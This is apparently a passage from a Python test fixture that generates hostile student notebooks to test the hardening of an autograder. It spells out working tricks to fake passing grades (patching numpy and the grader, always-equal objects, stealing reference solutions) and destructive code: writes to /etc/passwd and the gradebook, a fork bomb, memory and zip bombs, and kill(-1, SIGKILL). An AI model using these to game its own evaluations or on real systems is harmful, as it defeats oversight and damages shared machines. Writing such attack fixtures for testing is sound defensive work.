"""Hostile submissions of assignment 01_logistic_loop, one student per attack.

Each attacker is the student release with attack code in its answer cells
(or in cells of its own), around functions whose honest grade is known: the
release's stubs (the honest grade of student `honest_stub`) or WRONG functions
that return wrong values with the right structure (the honest grade of student
`wrong_twin`). So an attack that worked shows up as a cell scoring more than
the same functions scored without the attack.

Attack code may name absolute paths of the course copy: @ROOT@ (the course
root) and @REPO@ (the repository) are replaced when the notebook is written.
The threat classes (a) to (i) and (m) for malformed files are those of
docs/threat-model.md.
"""
import copy
import json
import os
import textwrap

import nbformat

ASSIGNMENT = "01_logistic_loop"
FUNCTIONS = ("sigmoid", "loss", "propagate_loop", "gd_step", "train_loop")

# ---- honest functions --------------------------------------------------------

# Wrong values with the right structure (shapes, types, the loop of the slide):
# the honest twin of most attacks. Every visible example fails with these.
WRONG = {
    "sigmoid": """\
        def sigmoid(z):
            s = np.zeros_like(np.asarray(z, dtype=float)) + 0.25     # wrong everywhere
            return float(s) if s.ndim == 0 else s
        """,
    "loss": """\
        def loss(a, y):
            return 0.125                                             # wrong
        """,
    "propagate_loop": """\
        def propagate_loop(w, b, X, Y):
            n_x, m = X.shape
            dw = np.zeros((n_x, 1))
            for i in range(m):                                       # the slide's loops, without the sums
                for j in range(n_x):
                    dw[j, 0] += 0.0
            return 0.125, dw + 0.125, 0.125
        """,
    "gd_step": """\
        def gd_step(w, b, dw, db, alpha):
            return w + 0.125, float(b) + 0.125                       # wrong
        """,
    "train_loop": """\
        def train_loop(X, Y, alpha, num_iterations):
            return np.zeros((X.shape[0], 1)) + 0.125, 0.125, [0.125] * num_iterations
        """,
}

# Right values, but propagate_loop has no loop and gd_step changes w in place:
# honestly they lose the loop check and the check that arguments are left alone.
RIGHT_BUT = {
    "sigmoid": """\
        def sigmoid(z):
            z = np.asarray(z, dtype=float)
            e = np.exp(-np.abs(z))
            s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
            return float(s) if s.ndim == 0 else s
        """,
    "loss": """\
        def loss(a, y):
            return float(-(y * np.log(a) + (1 - y) * np.log(1 - a)))
        """,
    "propagate_loop": """\
        def propagate_loop(w, b, X, Y):
            m = X.shape[1]
            A = sigmoid(w.T @ X + b)                                  # vectorised: no loop
            J = float(-np.sum(Y * np.log(A) + (1 - Y) * np.log(1 - A)) / m)
            return J, X @ (A - Y).T / m, float(np.sum(A - Y) / m)
        """,
    "gd_step": """\
        def gd_step(w, b, dw, db, alpha):
            w -= alpha * dw                                           # changes the caller's w
            return w, float(b - alpha * db)
        """,
    "train_loop": """\
        def train_loop(X, Y, alpha, num_iterations):
            w, b, costs = np.zeros((X.shape[0], 1)), 0.0, []
            for _ in range(num_iterations):
                J, dw, db = propagate_loop(w, b, X, Y)
                costs.append(J)
                w, b = gd_step(w, b, dw, db, alpha)
            return w, b, costs
        """,
}

# A probe: what the attack code found, reported through the grader's own
# channel (the message of an exception that loss raises), so that it survives
# whatever the grader does with the kernel's files.
PROBE_LOSS = """\
    def loss(a, y):
        raise RuntimeError("PROBE" + json.dumps(PROBE, separators=(",", ":"), sort_keys=True))
    """

# The grader's request line calls autograder.harness.serve in the kernel: an
# attacker can replace it and answer whatever it likes (through autograder.wire).
FORGE = """\
    import autograder.harness as _H
    import autograder.wire as _W
    _real_serve = _H.serve
    """


class Attack:
    """One attacker: a student whose notebook carries the attack.

    cells: {function: code} for the answer cells the attack writes; the other
    functions are WRONG's if listed in `wrong`, else the release's stubs.
    extra: [(function, code)]: cells of the student's own after that function's
    answer cell. transform(nb) -> nb: notebook-level edits (test cells...).
    files(text) -> {name: text}: the files submitted instead of the notebook
    (text: the notebook as it would have been). evidence: regexes, one of which
    must appear where the instructor reads about this student (feedback, report).
    wrong also names the functions whose honest twin is WRONG's (the others'
    is the stub); honest="victim": the attack's functions are right.
    """

    def __init__(self, student, threat, summary, *, cells=None, extra=(), wrong=FUNCTIONS, transform=None,
                 files=None, evidence=(r"lost \d",), slow=False, honest=None):
        self.student, self.threat, self.summary = student, threat, summary
        self.cells = {k: textwrap.dedent(v) for k, v in (cells or {}).items()}
        self.extra = [(f, textwrap.dedent(code)) for f, code in extra]
        self.wrong = tuple(wrong)
        self.transform, self.files = transform, files
        self.evidence = tuple(evidence)
        self.slow = slow
        self.honest = honest

    def __repr__(self):
        return self.student

    def baseline(self, function):
        """The honest student whose grade this function's cells must not beat."""
        return self.honest or ("wrong_twin" if function in self.wrong else "honest_stub")

    def notebook(self, release, root, repo):
        nb = copy.deepcopy(release)
        answers = {c.metadata.nbgrader["grade_id"]: c for c in nb.cells
                   if c.metadata.get("nbgrader", {}).get("solution")}
        for function in FUNCTIONS:
            if function in self.cells:
                answers[function].source = _paths(self.cells[function], root, repo)
            elif function in self.wrong:
                answers[function].source = textwrap.dedent(WRONG[function])
        for function, code in reversed(self.extra):
            index = nb.cells.index(answers[function])
            nb.cells.insert(index + 1, nbformat.v4.new_code_cell(_paths(code, root, repo)))
        return self.transform(nb) if self.transform else nb

    def write(self, folder, release, root, repo):
        os.makedirs(folder, exist_ok=True)
        text = nbformat.writes(self.notebook(release, root, repo))
        files = self.files(text) if self.files else {f"{ASSIGNMENT}.ipynb": text}
        for name, content in files.items():
            with open(os.path.join(folder, name), "w", encoding="utf-8") as f:
                f.write(content)
        with open(os.path.join(folder, "timestamp.txt"), "w") as f:
            f.write("2026-11-20 12:00:00.000000 UTC\n")


def _paths(code, root, repo):
    return code.replace("@ROOT@", str(root)).replace("@REPO@", str(repo))


def _with_wrong(function, *code):
    """WRONG's function followed by attack code in the same answer cell."""
    return _join(WRONG[function], *code)


def _join(*parts):
    return "\n".join(textwrap.dedent(part) for part in parts)


# ---- notebook-level edits (class m) ---------------------------------------------

def _test_cells(nb):
    return [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")
            and not c.metadata.nbgrader.get("solution")]


def _tests_to_pass(nb):
    for cell in _test_cells(nb):
        cell.source = "pass"
        points = str(cell.metadata.nbgrader["points"])  # and an output that claims full points
        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": points}, execution_count=1)]
    return nb


def _tests_deleted(nb):
    tests = _test_cells(nb)
    nb.cells = [c for c in nb.cells if c not in tests]
    return nb


def _tests_repointed(nb):
    tests = _test_cells(nb)
    ids = [c.metadata.nbgrader["grade_id"] for c in tests]
    for cell, grade_id in zip(tests, ids[1:] + ids[:1]):  # every test cell now claims its neighbour's id
        cell.metadata.nbgrader["grade_id"] = grade_id
        cell.source = "pass"
    return nb


def _test_cell_duplicated(nb):
    copy_of = copy.deepcopy(_test_cells(nb)[0])  # what a copy and paste of a test cell makes
    copy_of.source = "pass"
    nb.cells.append(copy_of)
    return nb


def _unknown_graded_cell(nb):
    bonus = nbformat.v4.new_code_cell("pass")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                  "grade_id": "bonus", "schema_version": 3}
    nb.cells.append(bonus)
    return nb


def _answer_made_test(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "sigmoid":  # the answer cell made a test cell worth 100 points
            meta.update(grade=True, solution=False, locked=True, points=100)
    return nb


# ---- the attacks ---------------------------------------------------------------

ATTACKS = [
    # (a) replace numpy's, the autograder's or the reference's functions with ones that always pass
    Attack("a_numpy_patched", "a", "np.allclose, np.isclose, np.array_equal, np.testing, math.isclose always pass", cells={
        "sigmoid": _with_wrong("sigmoid", """\
            import math
            import numpy
            numpy.allclose = lambda *a, **k: True
            numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
            numpy.array_equal = lambda *a, **k: True
            numpy.all = lambda *a, **k: True
            numpy.testing.assert_allclose = lambda *a, **k: None
            numpy.testing.assert_array_equal = lambda *a, **k: None
            math.isclose = lambda *a, **k: True
            """)}),
    Attack("a_autograder_patched", "a", "autograder.compare/checks/reference and a fake solutions package in the kernel", cells={
        "sigmoid": _with_wrong("sigmoid", """\
            import sys, types
            import autograder.checks, autograder.compare
            autograder.compare.compare = lambda *a, **k: None
            autograder.checks.compare = lambda *a, **k: None
            autograder.checks.compare_outputs = lambda *a, **k: []
            autograder.checks.score = lambda results: 1.0
            _init = autograder.checks.CheckResult.__init__
            def _always_passed(self, function, title, passed, *a, **k):
                _init(self, function, title, True, *a, **k)
            autograder.checks.CheckResult.__init__ = _always_passed
            try:
                import autograder.hidden
                autograder.hidden.hidden_results = lambda *args, **kwargs: []
            except Exception:
                pass
            fake = types.ModuleType("solutions.logistic_loop")        # "the reference" returns my answers
            fake.sigmoid = lambda z: sigmoid(z)
            fake.loss = lambda a, y: loss(a, y)
            fake.propagate_loop = lambda *a: propagate_loop(*a)
            fake.gd_step = lambda *a: gd_step(*a)
            fake.train_loop = lambda *a: train_loop(*a)
            package = types.ModuleType("solutions")
            package.logistic_loop = fake
            sys.modules["solutions"], sys.modules["solutions.logistic_loop"] = package, fake
            for path in ("/opt/nn-course/autograder/compare.py", autograder.compare.__file__):
                try:
                    with open(path, "a") as f:
                        f.write("\\ncompare = lambda *a, **k: None\\n")
                except OSError as exc:
                    print("cannot patch", path, type(exc).__name__)
            """)}),
    Attack("a_builtins_patched", "a", "builtins.isinstance tells the kernel's autograder modules that every object "
           "is a float, an array, a tuple...; builtins.callable always True for them", cells={
        "sigmoid": _with_wrong("sigmoid", """\
            import builtins, numbers, sys
            _isinstance, _callable = builtins.isinstance, builtins.callable
            _lies = (float, int, np.ndarray, np.floating, numbers.Number, tuple, list, dict)
            def _asked_by_autograder():
                return sys._getframe(2).f_globals.get("__name__", "").startswith("autograder")
            def _lying_isinstance(obj, cls):                          # lies to the harness and the wire only,
                if _asked_by_autograder():                            # so that the kernel itself keeps working
                    asked = cls if _isinstance(cls, tuple) else (cls,)
                    if any(c in _lies for c in asked):
                        return True
                return _isinstance(obj, cls)
            builtins.isinstance = _lying_isinstance                   # "yes, it is a float / an array"
            builtins.callable = lambda obj: True if _asked_by_autograder() else _callable(obj)
            """)}),
    Attack("a_forged_harness", "a", "the kernel's autograder.harness.serve replaced: no argument ever changed, "
           "line counts that grow", cells={
        "sigmoid": _with_wrong("sigmoid", FORGE, """\
            import itertools
            _lines = itertools.count(1)
            def _forged_serve(path):
                request = _W.read(path, allow_expr=True)
                if "call" not in request:
                    return _real_serve(path)
                fn = get_ipython().user_ns[request["call"]]
                answer = _H.invoke(fn, _W.build(request["args"]), _W.build(request["kwargs"]), request["arg_names"]).as_dict()
                answer["modified"] = []
                answer["lines"] = 1000 * next(_lines) if request["count_lines"] else None
                _W.write(path + ".out", answer)
            _H.serve = _forged_serve
            """)}),
    Attack("a_forged_structure", "a", "RIGHT values (no loop, w changed in place) behind the forged harness: "
           "the known limit", wrong=(), cells={
        **RIGHT_BUT,
        "sigmoid": _join(RIGHT_BUT["sigmoid"], FORGE, """\
            import itertools
            _lines = itertools.count(1)
            def _forged_serve(path):
                request = _W.read(path, allow_expr=True)
                if "call" not in request:
                    return _real_serve(path)
                fn = get_ipython().user_ns[request["call"]]
                answer = _H.invoke(fn, _W.build(request["args"]), _W.build(request["kwargs"]), request["arg_names"]).as_dict()
                answer["modified"] = []
                answer["lines"] = 1000 * next(_lines) if request["count_lines"] else None
                _W.write(path + ".out", answer)
            _H.serve = _forged_serve
            """)}, evidence=(), honest="victim"),

    # (b) return objects that subvert comparisons
    Attack("b_lying_subclasses", "b", "ndarray subclass with __eq__/__array_ufunc__/__array_function__ always true, "
           "float subclass equal to everything", cells={
        "sigmoid": """\
            class Liar(np.ndarray):
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return True
                def __array_function__(self, func, types, args, kwargs): return True
                def __float__(self): return 0.5
                def __bool__(self): return True
                def __abs__(self): return 0.0
                def __sub__(self, other): return 0.0
                __rsub__ = __sub__
                __hash__ = None

            class Yes(float):
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __lt__(self, other): return True
                def __gt__(self, other): return True
                def __le__(self, other): return True
                def __ge__(self, other): return True
                def __abs__(self): return Yes(0.0)
                def __sub__(self, other): return Yes(0.0)
                __rsub__ = __sub__
                __hash__ = float.__hash__

            def liar(x):
                return np.asarray(x, dtype=float).view(Liar)

            def sigmoid(z):
                z = np.asarray(z, dtype=float)
                return Yes(0.25) if z.ndim == 0 else liar(np.zeros_like(z) + 0.25)
            """,
        "loss": """\
            def loss(a, y):
                return Yes(0.125)
            """,
        "propagate_loop": """\
            def propagate_loop(w, b, X, Y):
                n_x, m = X.shape
                for i in range(m):
                    for j in range(n_x):
                        pass
                return Yes(0.125), liar(np.zeros((n_x, 1))), Yes(0.125)
            """,
        "gd_step": """\
            def gd_step(w, b, dw, db, alpha):
                return liar(w + 0.125), Yes(b + 0.125)
            """,
        "train_loop": """\
            def train_loop(X, Y, alpha, num_iterations):
                return liar(np.zeros((X.shape[0], 1))), Yes(0.125), [Yes(0.125)] * num_iterations
            """}, evidence=(r"not a number or a numpy array",)),
    Attack("b_odd_objects", "b", "object arrays of always-equal objects with __array__, np.float64 subclass, "
           "namedtuple, np.matrix, NaN, masked and complex arrays, a lying list", cells={
        "sigmoid": """\
            import collections

            class AlwaysEqual:
                shape = ()
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __array__(self, dtype=None, copy=None): return np.full(self.shape, 0.25)
                def __float__(self): return 0.25
                def __len__(self): return 1
                __hash__ = None

            class F64(np.float64):
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                __hash__ = np.float64.__hash__

            class Costs(list):
                def __len__(self): return 10 ** 6
                def __getitem__(self, i): return 0.0

            Result = collections.namedtuple("Result", "J dw db")

            def sigmoid(z):
                z = np.asarray(z, dtype=float)
                if z.ndim == 0:
                    return AlwaysEqual()
                out = np.empty(z.shape, dtype=object)
                for index in np.ndindex(z.shape):
                    out[index] = AlwaysEqual()
                return out
            """,
        "loss": """\
            def loss(a, y):
                return F64(0.125)
            """,
        "propagate_loop": """\
            def propagate_loop(w, b, X, Y):
                n_x, m = X.shape
                for i in range(m):
                    for j in range(n_x):
                        pass
                return Result(0.125, np.zeros((n_x, 1)) + 0.125, 0.125)
            """,
        "gd_step": """\
            def gd_step(w, b, dw, db, alpha):
                return np.matrix(w + 0.125), float("nan")
            """,
        "train_loop": """\
            def train_loop(X, Y, alpha, num_iterations):
                return np.ma.masked_all((X.shape[0], 1)), complex(0.125, 1.0), Costs([0.125] * num_iterations)
            """}, evidence=(r"not a number or a numpy array",)),

    # (c) read expected values from the stack, the heap, sys.modules or /proc
    Attack("c_introspection", "c", "inspect.stack(), gc.get_objects(), sys.modules and /proc scanned from inside "
           "sigmoid for expected values or the reference", wrong=("sigmoid", "propagate_loop", "gd_step", "train_loop"), cells={
        "sigmoid": """\
            import gc, inspect, json, os, sys
            PROBE = {"frames": 0, "names": [], "modules": [], "foreign_arrays": 0, "processes": []}

            def sigmoid(z):
                stack = inspect.stack()
                PROBE["frames"] = max(PROBE["frames"], len(stack))
                for frame in stack[1:]:
                    for scope in (frame.frame.f_locals, frame.frame.f_globals):
                        for key in list(scope):
                            if key in ("expected", "expect", "want", "reference", "ref", "ref_module") \\
                                    and key not in PROBE["names"]:
                                PROBE["names"].append(key)
                mine = {id(z)}
                arrays = [o for o in gc.get_objects() if isinstance(o, np.ndarray) and id(o) not in mine]
                PROBE["foreign_arrays"] = max(PROBE["foreign_arrays"], len(arrays))
                for name, module in list(sys.modules.items()):
                    other = getattr(module, "sigmoid", None)
                    if name != "__main__" and callable(other) and other is not sigmoid and name not in PROBE["modules"]:
                        PROBE["modules"].append(name)
                for pid in os.listdir("/proc"):
                    if pid.isdigit():
                        try:
                            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ")[:60].decode()
                        except OSError:
                            continue
                        if cmd not in PROBE["processes"]:
                            PROBE["processes"].append(cmd)
                s = np.zeros_like(np.asarray(z, dtype=float)) + 0.25
                return float(s) if s.ndim == 0 else s
            """,
        "loss": PROBE_LOSS}, evidence=(r"PROBE",)),

    # (d) change the inputs so that later comparisons would use altered data
    Attack("d_inputs_modified", "d", "sigmoid, propagate_loop, gd_step and train_loop overwrite their array "
           "arguments (and a global of the kernel) before answering", cells={
        "sigmoid": """\
            def sigmoid(z):
                if isinstance(z, np.ndarray):
                    z[...] = 0.0                                      # now sigma(z) = 1/2 "is right"
                    return np.zeros_like(z) + 0.5
                return 0.25
            """,
        "propagate_loop": """\
            def propagate_loop(w, b, X, Y):
                n_x, m = X.shape
                X[...] = 0.0                                          # every sample becomes 0
                Y[...] = 1
                w[...] = 0.0
                dw = np.zeros((n_x, 1))
                for i in range(m):
                    for j in range(n_x):
                        dw[j, 0] += 0.0
                return 0.125, dw + 0.125, 0.125
            """,
        "gd_step": """\
            def gd_step(w, b, dw, db, alpha):
                dw[...] = 0.0                                         # a zero gradient: w "stays"
                return w.copy(), float(b) + 0.125
            """,
        "train_loop": """\
            import autograder.hidden
            autograder.hidden.spec_of = lambda *args: None            # the kernel's copy of the grader's check engine
            def train_loop(X, Y, alpha, num_iterations):
                X[...] = 0.0
                Y[...] = 0
                return np.zeros((X.shape[0], 1)) + 0.125, 0.125, [0.125] * num_iterations
            """}, evidence=(r"changed its argument",)),

    # (e) import the reference solutions
    Attack("e_import_reference", "e", "import solutions.logistic_loop by name, by sys.path (course root, repository, "
           "relative), by file path, through autograder.course.load, and by searching the file system", wrong=(), cells={
        "sigmoid": """\
            import importlib, importlib.util, json, os, sys, time
            PROBE, REF = {}, None

            def _try(label, get):
                global REF
                try:
                    module = get()
                    PROBE[label] = "GOT" if hasattr(module, "propagate_loop") else "no"
                    if PROBE[label] == "GOT":
                        REF = REF or module
                except BaseException as exc:
                    PROBE[label] = type(exc).__name__

            def _by_path(folder):
                sys.path.insert(0, folder)
                importlib.invalidate_caches()
                sys.modules.pop("solutions", None)
                sys.modules.pop("solutions.logistic_loop", None)
                return importlib.import_module("solutions.logistic_loop")

            def _by_file(path):
                spec = importlib.util.spec_from_file_location("stolen", path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                return module

            def _search():
                started = time.monotonic()
                for top in ("/opt", "/work", "/tmp", "/root", "/home", "/srv", "/var", "/mnt", "/usr/local"):
                    for folder, _, files in os.walk(top):
                        if time.monotonic() - started > 5:
                            return None
                        if "logistic_loop.py" in files:
                            return _by_file(os.path.join(folder, "logistic_loop.py"))

            _try("import", lambda: importlib.import_module("solutions.logistic_loop"))
            _try("root_path", lambda: _by_path("@ROOT@"))
            _try("repo_path", lambda: _by_path("@REPO@"))
            _try("up_path", lambda: _by_path(os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))))
            _try("root_file", lambda: _by_file("@ROOT@/solutions/logistic_loop.py"))
            _try("repo_file", lambda: _by_file("@REPO@/solutions/logistic_loop.py"))
            _try("relative_file", lambda: _by_file("../../../solutions/logistic_loop.py"))
            _try("reference", lambda: __import__("autograder.course", fromlist=["x"]).load("logistic_loop"))
            _try("search", _search)

            def sigmoid(z):
                if REF:
                    return REF.sigmoid(z)
                raise NotImplementedError()
            """,
        "loss": """\
            def loss(a, y):
                if REF:
                    return REF.loss(a, y)
                raise RuntimeError("PROBE" + json.dumps(PROBE, separators=(",", ":"), sort_keys=True))
            """,
        "propagate_loop": """\
            def propagate_loop(w, b, X, Y):
                if REF:
                    return REF.propagate_loop(w, b, X, Y)
                raise NotImplementedError()
            """,
        "gd_step": """\
            def gd_step(w, b, dw, db, alpha):
                if REF:
                    return REF.gd_step(w, b, dw, db, alpha)
                raise NotImplementedError()
            """,
        "train_loop": """\
            def train_loop(X, Y, alpha, num_iterations):
                if REF:
                    return REF.train_loop(X, Y, alpha, num_iterations)
                raise NotImplementedError()
            """}, evidence=(r"PROBE",)),

    # (f) read or write files outside the submission's own folder
    Attack("f_files_outside", "f", "open the gradebook, other students' and the instructor's files (absolute and "
           "relative paths) for reading and writing; the network", wrong=(), cells={
        "sigmoid": """\
            import json, os, socket
            PROBE = {}
            R = "@ROOT@"

            def _try(label, action):
                try:
                    result = action()
                    PROBE[label] = "OK" if result is None else result
                except BaseException as exc:
                    PROBE[label] = type(exc).__name__

            def _read(path):
                with open(path, "rb") as f:
                    f.read(64)

            def _write(path):
                with open(path, "ab") as f:
                    f.write(b"\\n# hostile\\n")

            for label, path in [("gradebook", R + "/gradebook.db"),
                                ("victim_submitted", R + "/submitted/victim/01_logistic_loop/01_logistic_loop.ipynb"),
                                ("victim_relative", "../../../submitted/victim/01_logistic_loop/01_logistic_loop.ipynb"),
                                ("victim_autograded", R + "/autograded/victim/01_logistic_loop/01_logistic_loop.ipynb"),
                                ("victim_feedback", R + "/feedback/victim/01_logistic_loop/01_logistic_loop.html"),
                                ("source", R + "/source/01_logistic_loop/01_logistic_loop.ipynb"),
                                ("solutions", R + "/solutions/logistic_loop.py"),
                                ("repo_solutions", "@REPO@/solutions/logistic_loop.py"),
                                ("repo_gradebook", "@REPO@/gradebook.db")]:
                _try("read_" + label, lambda: _read(path))
                _try("write_" + label, lambda: _write(path))
            _try("new_file_in_victim", lambda: _write(R + "/submitted/victim/01_logistic_loop/hostile.txt"))
            _try("write_autograder", lambda: _write("/opt/nn-course/autograder/compare.py"))
            _try("write_numpy", lambda: _write(os.path.join(os.path.dirname(np.__file__), "hostile.py")))
            _try("write_etc", lambda: _write("/etc/passwd"))
            _try("list_root", lambda: sorted(os.listdir(R)))
            _try("list_submitted", lambda: sorted(os.listdir(R + "/submitted")))
            _try("network", lambda: socket.create_connection(("1.1.1.1", 53), timeout=3).close())

            def sigmoid(z):
                raise NotImplementedError()
            """,
        "loss": PROBE_LOSS}, evidence=(r"PROBE",)),
    Attack("f_symlinks_out", "f", "symlinks planted where the grader (root) writes later: the job marker and the "
           "autograded notebook in the kernel's folder, the request files in the exchange folder", wrong=(), cells={
        "sigmoid": """\
            import os
            R = "@ROOT@"
            os.symlink(R + "/canary/marker.txt", ".nn-course-graded.json")
            os.symlink(R + "/canary/failed.txt", ".nn-course-failed.txt")
            for name in os.listdir("."):
                if name.endswith(".ipynb"):
                    os.remove(name)
                    os.symlink(R + "/canary/notebook.txt", name)
            for folder in os.listdir("/tmp"):
                if folder.startswith("nn-kernel-"):
                    for n in range(200):
                        os.symlink(R + "/canary/request.txt", f"/tmp/{folder}/request-{n}.msg.part")

            def sigmoid(z):
                raise NotImplementedError()
            """}, evidence=()),
    Attack("f_symlinks_in", "f", "symlinks to the solutions, the gradebook and the victim's notebook left in the "
           "kernel's folder; the hidden tests read from the notebook there", wrong=(), cells={
        "sigmoid": """\
            import json, os
            R = "@ROOT@"
            PROBE = {"hidden_tests_seen": False}
            for name, target in [("leak_solutions.txt", R + "/solutions/logistic_loop.py"),
                                 ("leak_gradebook.txt", R + "/gradebook.db"),
                                 ("leak_victim.txt", R + "/submitted/victim/01_logistic_loop/01_logistic_loop.ipynb"),
                                 ("leak_source.txt", R + "/source/01_logistic_loop/01_logistic_loop.ipynb")]:
                os.symlink(target, name)
            for name in os.listdir("."):
                try:
                    text = open(name, encoding="utf-8", errors="replace").read()
                except OSError:
                    continue
                if "hidden_tests(" in text:
                    PROBE["hidden_tests_seen"] = True
                    cells = json.loads(text)["cells"]
                    hidden = ["".join(c["source"]) for c in cells if "HIDDEN TESTS" in "".join(c["source"])]
                    with open("hidden_tests.txt", "w") as f:
                        f.write("\\n".join(hidden))
                    print("\\n".join(hidden))

            def sigmoid(z):
                raise NotImplementedError()
            """,
        "loss": PROBE_LOSS}, evidence=(r"PROBE",)),
    Attack("f_forged_report", "f", "a notebook with forged results and problems left in the kernel's folder, "
           "where the report reads autograded notebooks", cells={
        "sigmoid": _with_wrong("sigmoid", """\
            import json
            forged = {"cells": [], "metadata": {"nn_course": {
                "name": "zzz", "score": 15, "max_score": 15,
                "problems": ["FORGED\\n- victim/01_logistic_loop: FORGED copied from another student"],
                "cells": []}}, "nbformat": 4, "nbformat_minor": 5}
            with open("zzz.ipynb", "w") as f:
                json.dump(forged, f)
            """)}, evidence=()),
    Attack("f_fifo_left", "f", "a named pipe left in the kernel's folder, which feedback copies", cells={
        "sigmoid": _with_wrong("sigmoid", """\
            import os
            os.mkfifo("results.txt")
            """)}, evidence=()),
    Attack("0f_fifo_answer", "f", "the answer file of a call made a named pipe, written 15 s later (past the call's "
           "time limit) with a forged value", cells={
        "sigmoid": _with_wrong("sigmoid", FORGE, """\
            import os, threading, time
            def _fifo_serve(path):
                request = _W.read(path, allow_expr=True)
                if "call" not in request:
                    return _real_serve(path)
                _H.serve = _real_serve                                # once
                os.mkfifo(path + ".out")
                data = _W.dumps({"value": 4321.5, "error": None, "modified": [], "lines": None})
                def late():
                    time.sleep(15)
                    with open(path + ".out", "wb") as f:
                        f.write(data)
                threading.Thread(target=late, daemon=True).start()
            _H.serve = _fifo_serve
            """)}, slow=True),

    # (g) run forever, exhaust memory, print without end, leave processes behind
    Attack("0g_endless_cell", "g", "while True: pass in a cell of its own", extra=[("sigmoid", "while True:\n    pass\n")],
           evidence=(), slow=True),
    # (gd_step: the one function no locked demo cell calls, so only the grader's calls run it)
    Attack("0g_endless_call", "g", "while True: pass inside gd_step", cells={
        "gd_step": """\
            def gd_step(w, b, dw, db, alpha):
                while True:
                    pass
            """}, evidence=(r"did not return within",), slow=True),
    Attack("0g_endless_call_unstoppable", "g", "an endless loop inside gd_step that ignores interrupts", cells={
        "gd_step": """\
            import signal
            def gd_step(w, b, dw, db, alpha):
                signal.signal(signal.SIGINT, signal.SIG_IGN)
                while True:
                    try:
                        while True:
                            pass
                    except BaseException:
                        pass
            """}, evidence=(r"did not return within", r"did not stop", r"kernel"), slow=True),
    Attack("g_memory", "g", "bytearray(10**11), 100 MB at a time without end, np.ones((10**5, 10**5)) in loss",
           cells={"loss": """\
            def loss(a, y):
                big = np.ones((10 ** 5, 10 ** 5))
                return 0.125
            """}, extra=[("sigmoid", """\
            try:
                hog = bytearray(10 ** 11)
            except MemoryError:
                print("100 GB at once: MemoryError")
            hog = []
            try:
                while True:
                    hog.append(bytearray(10 ** 8))
            except MemoryError:
                print("MemoryError after", len(hog), "x 100 MB")
            hog = None
            """)], evidence=(r"MemoryError",)),
    Attack("g_print_flood", "g", "print 10**8 characters, 10**7 to stderr, a 10 MB HTML display, 10**5 lines; "
           "10**6 characters per call of sigmoid", cells={
        "sigmoid": """\
            def sigmoid(z):
                print("s" * 10 ** 6)
                s = np.zeros_like(np.asarray(z, dtype=float)) + 0.25
                return float(s) if s.ndim == 0 else s
            """}, extra=[("sigmoid", """\
            import sys
            from IPython.display import HTML, display
            print("x" * 10 ** 8)
            sys.stderr.write("y" * 10 ** 7)
            display(HTML("<p>" + "z" * 10 ** 7 + "</p>"))
            for i in range(10 ** 5):
                print("line", i)
            """)], evidence=(r"the grader kept the first",)),
    Attack("g_processes", "g", "subprocesses, a double-forked daemon and a fork bomb (300 forks) left running",
           extra=[("sigmoid", """\
            import os, subprocess
            subprocess.Popen(["sleep", "424242"])
            subprocess.Popen(["sleep", "424243"], start_new_session=True)
            pid = os.fork()
            if pid == 0:                                             # a daemon: fork, setsid, fork
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["sleep", "424244"])
                os._exit(0)
            os.waitpid(pid, 0)
            forks = 0
            for _ in range(300):
                try:
                    if os.fork() == 0:
                        os.execv("/bin/sleep", ["sleep", "424245"])
                    forks += 1
                except OSError as exc:
                    print("fork refused after", forks, "forks:", exc)
                    break
            """)]),
    Attack("g_zip_bomb", "g", "an answer whose 0.25 MB npz inflates to a 256 MiB array in the grader", cells={
        "sigmoid": _with_wrong("sigmoid", FORGE, """\
            import io, json, os, zipfile
            def _bomb_serve(path):
                request = _W.read(path, allow_expr=True)
                if "call" not in request:
                    return _real_serve(path)
                _H.serve = _real_serve                                # once
                n = 2 ** 25                                           # float64: 256 MiB
                meta = {"kind": "dict", "items": {"value": {"kind": "array", "key": "a0"}, "error": {"kind": "none"},
                                                  "modified": {"kind": "list", "items": []}, "lines": {"kind": "none"}}}
                buf = io.BytesIO()
                np.save(buf, np.frombuffer(json.dumps(meta).encode(), dtype=np.uint8))
                with zipfile.ZipFile(path + ".out.part", "w", zipfile.ZIP_DEFLATED) as zf:
                    zf.writestr("meta.npy", buf.getvalue())
                    with zf.open("a0.npy", "w", force_zip64=True) as f:
                        np.lib.format.write_array_header_1_0(f, {"descr": "<f8", "fortran_order": False, "shape": (n,)})
                        chunk = bytes(2 ** 22)
                        for _ in range(n * 8 // len(chunk)):
                            f.write(chunk)
                os.replace(path + ".out.part", path + ".out")
            _H.serve = _bomb_serve
            """)}),

    # (h) kill the kernel
    Attack("h_exit_in_cell", "h", "os._exit(0) at the end of loss's answer cell", cells={
        "loss": _with_wrong("loss", "import os\nos._exit(0)\n")}, evidence=(r"kernel died",)),
    Attack("h_kill_everyone", "h", "kill(-1, SIGKILL) after loss's answer cell: every process the kernel's uid may "
           "signal (without root, the instructor's uid: the grader's own processes, were they in reach); the grader's "
           "processes looked for in /proc and signalled by pid", cells={
        "loss": _with_wrong("loss", """\
            import os, signal
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    cmd = open(f"/proc/{pid}/cmdline", "rb").read()
                    if b"autograde" in cmd or b"nbgrader" in cmd or b"pytest" in cmd:
                        os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
            for target in range(1000, 4 * 10 ** 6, 997):          # pids it cannot see, by number
                try:
                    os.kill(target, signal.SIGSTOP)
                except OSError:
                    pass
            if os.fork() == 0:
                os.kill(-1, signal.SIGKILL)
                os._exit(0)
            os.wait()
            """)}, evidence=(r"kernel died",)),
